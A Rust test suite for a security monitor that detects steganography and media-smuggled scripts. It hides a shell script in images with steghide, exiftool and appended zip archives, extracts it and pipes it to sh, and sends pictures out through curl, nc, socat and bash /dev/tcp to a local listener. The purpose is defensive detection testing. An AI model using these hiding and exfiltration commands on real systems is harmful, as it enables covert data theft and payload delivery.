//! Media files, scripts and steganography (issue 5): found with the real tools, and ordinary work left alone.

use counterfoil_tests::daemon::Daemon;
use counterfoil_tests::sink::Sink;
use counterfoil_tests::sshd::Sshd;
use counterfoil_tests::{
    Alarm, Observed, Report, Run, Scratch, check, need, need_sshd, peers, pictures, wait,
};

/// Python 3 with Pillow.
fn pillow() -> bool {
    let tried = std::process::Command::new(peers::PYTHON).args(["-c", "import PIL"]).output();
    tried.is_ok_and(|o| o.status.success())
}

macro_rules! need_pillow {
    () => {
        if !pillow() {
            counterfoil_tests::skip!("python3-pil is not installed");
        }
    };
}

/// A folder with pictures, and programs that work on them.
struct Studio {
    scratch: Scratch,
    options: Vec<String>,
}

impl Studio {
    fn new() -> Self {
        let scratch = Scratch::new();
        pictures::make(&scratch);
        scratch.write("payload.sh", "echo it ran >ran\n");
        scratch.write("note.txt", "meet me at noon\n".repeat(4));
        Self { scratch, options: Vec::new() }
    }

    /// A file in it.
    fn with(self, name: &str, content: &str) -> Self {
        self.scratch.write(name, content);
        self
    }

    /// What was done before anybody looked.
    fn before(self, words: &[&str]) -> Self {
        pictures::run(&self.scratch, words);
        self
    }

    fn config(mut self, text: &str) -> Self {
        let here = self.path("");
        let file = self.scratch.write("counterfoil.toml", text.replace("$HERE", here.trim_end_matches('/')));
        self.options = vec!["--config".into(), file.display().to_string()];
        self
    }

    fn path(&self, name: &str) -> String {
        self.scratch.path().canonicalize().expect("scratch").join(name).display().to_string()
    }

    /// Runs `commands`, in which `$P` is the port of somebody who listens to everything.
    fn go(self, commands: &str) -> Run {
        let sink = Sink::start();
        let mut session = Observed::script(commands).env("P", sink.port().to_string()).limit(180);
        // Not what somebody has put before the system's own tools.
        session = session.env("PATH", "/usr/sbin:/usr/bin:/sbin:/bin");
        for option in self.options {
            session = session.option(option);
        }
        session.scratch = self.scratch;
        session.go().well()
    }
}

fn found(run: &Run) -> Vec<Alarm> {
    run.report.alarms().into_iter().filter(|a| a.0["analytic"] == "AN0332").collect()
}

/// The one alarm about `file`, with this rule, at least this severe.
fn alarm(run: &Run, rule: &str, severity: &str, file: &str) -> Alarm {
    let all = found(run);
    let about = |a: &&Alarm| a.0["file"]["path"].as_str().is_some_and(|p| p.ends_with(&format!("/{file}")));
    let said: Vec<_> =
        all.iter().map(|a| format!("{} {} {}", a.rule(), a.0["severity"], a.0["file"]["path"])).collect();
    let alarm = all.iter().rfind(about);
    check!(
        run,
        alarm.is_some_and(|a| a.rule() == rule && a.0["severity"] == severity),
        "no {severity} {rule} on {file}: {said:?}"
    );
    let alarm = alarm.expect("checked").clone();
    let ids: std::collections::BTreeSet<String> =
        all.iter().filter(about).map(|a| a.0["id"].to_string()).collect();
    check!(run, ids.len() == 1, "{file} has several alarms: {said:?}");
    check!(run, alarm.0["technique"] == "T1027.003", "{}", alarm.0["technique"]);
    let chain = alarm.0["evidence"]["chain"].as_array().cloned().unwrap_or_default();
    let times: Vec<&str> = chain.iter().filter_map(|s| s["at"].as_str()).collect();
    check!(run, !times.is_empty() && times.is_sorted(), "in order, with times: {chain:#?}");
    alarm
}

/// The links of its chain.
fn links(alarm: &Alarm) -> Vec<String> {
    let links = alarm.0["evidence"]["links"].as_array().cloned().unwrap_or_default();
    links.iter().map(|l| l["link"].as_str().unwrap_or("").to_owned()).collect()
}

fn nothing(run: &Run) {
    let all: Vec<_> = found(run).iter().map(|a| format!("{} {}", a.rule(), a.0["message"])).collect();
    check!(run, all.is_empty(), "{all:#?}");
}

#[test]
fn embedding_and_extracting() {
    need!("steghide", "outguess", "stegsnow", "binwalk");
    need_pillow!();
    let run = Studio::new().go("steghide embed -q -cf cover.jpg -ef note.txt -p x -sf out.jpg");
    let tool = alarm(&run, "stego-tool", "low", "cover.jpg");
    assert_eq!(links(&tool), ["tool"]);
    assert!(tool.0["process"]["exe"].as_str().is_some_and(|e| e.ends_with("/steghide")));
    let studio = || {
        Studio::new().before(&[
            "steghide",
            "embed",
            "-q",
            "-cf",
            "cover.jpg",
            "-ef",
            "payload.sh",
            "-p",
            "x",
            "-sf",
            "in.jpg",
        ])
    };
    let run = studio().go("steghide extract -q -sf in.jpg -p x -xf got.txt");
    alarm(&run, "stego-tool", "low", "in.jpg");
    // Extracted, and run.
    let run = studio().go("steghide extract -q -sf in.jpg -p x -xf got.sh; sh got.sh; test -e ran");
    let ran = alarm(&run, "media-script", "high", "in.jpg");
    assert_eq!(links(&ran), ["tool", "output", "script"]);
    assert!(ran.0["evidence"]["links"][1]["path"].as_str().is_some_and(|p| p.ends_with("/got.sh")));
    let run = Studio::new().go("outguess -k x -d note.txt cover.jpg out.jpg 2>/dev/null; binwalk cover.png >/dev/null; stegsnow -C -m hello note.txt out.txt");
    alarm(&run, "stego-tool", "low", "cover.jpg");
    alarm(&run, "stego-tool", "low", "cover.png");
    alarm(&run, "stego-tool", "low", "note.txt");
}

#[test]
fn metadata() {
    need!("exiftool", "exiv2", "sh");
    need_pillow!();
    let run = Studio::new().go("exiftool -q '-Comment<=payload.sh' -o out.jpg cover.jpg");
    let tool = alarm(&run, "stego-tool", "low", "cover.jpg");
    assert_eq!(tool.0["evidence"]["links"][0]["payload"], true);
    let studio =
        Studio::new().before(&["exiftool", "-q", "-Comment<=payload.sh", "-o", "in.jpg", "cover.jpg"]);
    let run = studio.go("exiftool -b -Comment in.jpg | sh; test -e ran");
    let ran = alarm(&run, "media-script", "high", "in.jpg");
    assert_eq!(links(&ran), ["tool", "output", "script"]);
    let run = Studio::new().go("exiftool -q -Artist=Ann -o out.jpg cover.jpg; exiv2 -q pr cover.jpg >/dev/null || true; exiftool cover.png >/dev/null");
    nothing(&run);
}

#[test]
fn archives_behind_pictures() {
    need!("zip", "unzip", "cat");
    need_pillow!();
    let zip = |studio: Studio| studio.before(&["zip", "-q", "p.zip", "payload.sh"]);
    let run = zip(Studio::new()).go("cat cover.png p.zip >out.png");
    let behind = alarm(&run, "media-mismatch", "low", "out.png");
    assert_eq!(behind.0["evidence"]["links"][0]["behind"]["magic"], "zip");
    let studio = || zip(Studio::new()).before(&["sh", "-c", "cat cover.jpg p.zip >in.jpg; rm payload.sh"]);
    let run = studio().go("unzip -q in.jpg 2>/dev/null || test $? = 1");
    alarm(&run, "media-mismatch", "low", "in.jpg");
    let run = studio().go("unzip -q in.jpg 2>/dev/null || test $? = 1; sh payload.sh; test -e ran");
    let ran = alarm(&run, "media-script", "high", "in.jpg");
    assert_eq!(links(&ran), ["mismatch", "output", "script"]);
    // Something else under a picture's name, and a picture under another one.
    let run = Studio::new().before(&["cp", "cover.png", "notes.txt"]).go("cat notes.txt >/dev/null");
    alarm(&run, "media-mismatch", "low", "notes.txt");
    let run = Studio::new().before(&["cp", "/bin/true", "cat.png"]).go("cat cat.png >/dev/null");
    alarm(&run, "media-mismatch", "low", "cat.png");
}

#[test]
fn scripts_that_take_a_picture() {
    need!("/usr/bin/python3");
    need_pillow!();
    let python = peers::PYTHON;
    let opens = "import sys; d = open(sys.argv[1], 'rb').read()\n";
    let names = "d = open('cover.png', 'rb').read()\n";
    let input = "import sys; d = sys.stdin.buffer.read()\n";
    for (what, script, command) in [
        ("an argument", opens, "$PY new.py \"$PWD/cover.png\""),
        ("a relative path", opens, "mkdir -p x; cd x; $PY ../new.py ../cover.png"),
        ("a link", opens, "ln -s cover.png link; $PY new.py link"),
        ("a hard link", opens, "ln cover.png other; $PY new.py other"),
        ("standard input", input, "$PY new.py <cover.png"),
        ("a pipe", input, "cat cover.png | $PY new.py"),
        ("a name in its text", names, "$PY new.py"),
        ("inline code", "", "$PY -c \"open('cover.png','rb').read()\""),
        ("a variable", "import os; open(os.environ['F'], 'rb').read()\n", "F=cover.png $PY new.py"),
    ] {
        let run = Studio::new().with("new.py", script).go(&command.replace("$PY", python));
        let all = found(&run);
        check!(run, all.len() == 1, "{what}: {} alarms", all.len());
        let file = all[0].0["file"]["path"].as_str().unwrap_or("").to_owned();
        let name = if what == "a hard link" { "other" } else { "cover.png" };
        check!(run, file.ends_with(name), "{what}: {file}");
        let alarm = alarm(&run, "media-script", "medium", name);
        check!(run, links(&alarm) == ["script"], "{what}: {:?}", links(&alarm));
    }
    // A shell script that has it unpacked, and a Perl script.
    let run = Studio::new().with("new.sh", "cat cover.jpg | tail -c 10 >tail.bin\n").go("sh new.sh");
    alarm(&run, "media-script", "medium", "cover.jpg");
    let perl = "open my $f, '<', $ARGV[0]; binmode $f; local $/; my $d = <$f>;\n";
    let run = Studio::new().with("new.pl", perl).go("perl new.pl cover.jpg");
    alarm(&run, "media-script", "medium", "cover.jpg");
}

const LSB: &str = "import sys\nfrom PIL import Image\nim = Image.open(sys.argv[1]); p = im.load()\n\
    for i, c in enumerate(b'secret' * 20): p[i, 0] = (p[i, 0][0] & ~1 | c & 1,) + p[i, 0][1:]\nim.save(sys.argv[2])\n";

#[test]
fn pictures_that_leave() {
    need!("curl", "nc", "socat", "bash", "/usr/bin/python3");
    need_pillow!();
    let python = peers::PYTHON;
    let remote =
        |alarm: &Alarm| alarm.0["connection"]["remote"].as_str().unwrap_or("").starts_with("127.0.0.1:");
    // Coded into its lowest bits, then sent: found from the picture on.
    let run = Studio::new().with("lsb.py", LSB).go(&format!(
        "{python} lsb.py cover.png out.png; curl -sS -T out.png http://127.0.0.1:$P/ >/dev/null"
    ));
    let sent = alarm(&run, "media-script", "high", "cover.png");
    assert_eq!(links(&sent), ["script", "socket"]);
    assert!(remote(&sent));
    let run = Studio::new().go("steghide embed -q -cf cover.jpg -ef note.txt -p x -sf out.jpg; curl -sS -F f=@out.jpg http://127.0.0.1:$P/ >/dev/null");
    let sent = alarm(&run, "media-egress", "high", "cover.jpg");
    assert_eq!(links(&sent), ["tool", "output", "socket"]);
    for (command, proven) in [
        ("curl -sS -T cover.jpg http://127.0.0.1:$P/ >/dev/null", true),
        ("curl -sS --data-binary @cover.jpg http://127.0.0.1:$P/ >/dev/null", false),
        ("nc -N 127.0.0.1 $P <cover.jpg", true),
        ("cat cover.jpg | nc -N 127.0.0.1 $P", true),
        ("socat -u OPEN:cover.jpg TCP:127.0.0.1:$P", true),
        ("bash -c 'cat cover.jpg >/dev/tcp/127.0.0.1/$P'", true),
        ("gzip -c cover.jpg | nc -N 127.0.0.1 $P", false),
        ("base64 cover.jpg >out.txt; curl -sS -T out.txt http://127.0.0.1:$P/ >/dev/null", false),
    ] {
        let run = Studio::new().go(command);
        let sent = alarm(&run, "media-egress", "medium", "cover.jpg");
        let confidence = if proven { "proven" } else { "correlated" };
        check!(run, sent.0["confidence"] == confidence, "{command}: {}", sent.0["confidence"]);
        check!(run, remote(&sent), "{command}: {}", sent.0["connection"]);
    }
}

#[test]
fn ordinary_work() {
    need!("convert", "exiftool", "curl", "ffmpeg", "/usr/bin/python3");
    need_pillow!();
    let python = peers::PYTHON;
    let library = |count| {
        let studio = Studio::new();
        pictures::library(&studio.scratch, "photos", count);
        studio
    };
    // One program over many, one program after the other, a script that goes through a folder.
    nothing(
        &library(12).go("mkdir small; for p in photos/*; do convert $p -resize 50% small/${p##*/}; done"),
    );
    nothing(&library(12).go("exiftool -q -r photos >/dev/null; exiftool -q -overwrite_original -AllDates='2026:01:01 00:00:00' photos >/dev/null"));
    let batch = "import os\nfrom PIL import Image\nos.mkdir('small')\n\
        for n in sorted(os.listdir('photos')):\n  im = Image.open('photos/' + n); im.thumbnail((24, 24)); im.save('small/' + n)\n";
    nothing(
        &library(500)
            .with("batch.py", batch)
            .go(&format!("{python} batch.py; test $(ls small | wc -l) = 500")),
    );
    // Served, and downloaded.
    let port = peers::free_port();
    nothing(&library(3).go(&format!(
        "{python} -m http.server {port} --bind 127.0.0.1 >/dev/null 2>&1 & server=$!\nlistening {port}\n\
         for p in photos/*; do curl -sS http://127.0.0.1:{port}/$p -o got.jpg; done; kill $server"
    )));
    // Looked at, copied, transcoded.
    nothing(
        &library(3)
            .go("for p in photos/*; do cp $p copy.jpg; cmp $p copy.jpg; done; convert cover.png cover2.jpg"),
    );
    nothing(&Studio::new().go("ffmpeg -v quiet -y -f lavfi -i testsrc=d=1:s=64x64 one.mp4 </dev/null; ffmpeg -v quiet -y -i one.mp4 two.mkv </dev/null"));
}

#[test]
fn many_pictures_to_one_host() {
    need!("rsync", "curl");
    need_pillow!();
    let studio = Studio::new();
    pictures::library(&studio.scratch, "photos", 40);
    nothing(&studio.go("curl -sS $(for p in photos/*; do echo -T $p http://127.0.0.1:$P/; done) >/dev/null"));
}

#[test]
fn somebody_answers_for_it() {
    need!("/usr/bin/python3", "curl");
    need_pillow!();
    let approved = |expires: &str| {
        let text = format!(
            "[[media.approved_workflows]]\npath = \"$HERE/lsb.py\"\nowner = \"ann\"\nreason = \"tests\"\nexpires = \"{expires}\"\n"
        );
        Studio::new().with("lsb.py", LSB).config(&text)
    };
    let command = format!("{} lsb.py cover.png out.png", peers::PYTHON);
    nothing(&approved("2100-01-01").go(&command));
    alarm(&approved("2001-01-01").go(&command), "media-script", "medium", "cover.png");
    // Another tool, and a tolerance.
    let studio = Studio::new().config("[media]\nmonitored_tools_list = [\"md5sum\"]\n");
    let run = studio.go("md5sum cover.jpg >/dev/null");
    alarm(&run, "stego-tool", "low", "cover.jpg");
    let tail =
        || Studio::new().before(&["sh", "-c", "cp cover.png in.png; printf 'a few words more' >>in.png"]);
    nothing(&tail().go("cat in.png >/dev/null"));
    let run = tail().config("[media]\nmime_header_mismatch_tolerance = 4\n").go("cat in.png >/dev/null");
    alarm(&run, "media-mismatch", "low", "in.png");
}

#[test]
fn over_ssh() {
    need_sshd!();
    need_pillow!();
    let studio = Studio::new().with("lsb.py", LSB);
    let commands = format!("{} lsb.py cover.png out.png; scp out.png far:$here/got", peers::PYTHON);
    let script = Sshd::new(&studio.scratch).around(&commands);
    let run = studio.go(&script);
    let sent = alarm(&run, "media-script", "high", "cover.png");
    assert_eq!(links(&sent), ["script", "socket"]);
}

/// On a host the tools are watched by themselves, whatever they are written in, and the alarm comes while the daemon runs.
#[test]
fn on_a_host() {
    need!("steghide", "exiftool");
    need_pillow!();
    let mut daemon = Daemon::start("");
    pictures::make(&daemon.scratch);
    daemon.scratch.write("payload.sh", "echo it ran\n");
    let here = daemon.scratch.path().canonicalize().expect("scratch");
    let commands = format!(
        "cd {}; steghide embed -q -cf cover.jpg -ef payload.sh -p x -sf out.jpg; \
         /usr/bin/exiftool -q '-Comment<=payload.sh' -o out.png cover.png",
        here.display()
    );
    daemon.observing(&["env", "-u", "BASH_ENV", "sh", "-c", &commands]).go().well();
    let tools = |r: &Report| r.alarms().iter().filter(|a| a.rule() == "stego-tool").count() == 2;
    let patience = std::time::Duration::from_secs(60);
    wait::until(patience, daemon.shown("two stego-tool alarms"), || Some(daemon.report()).filter(&tools));
    daemon.stop();
}
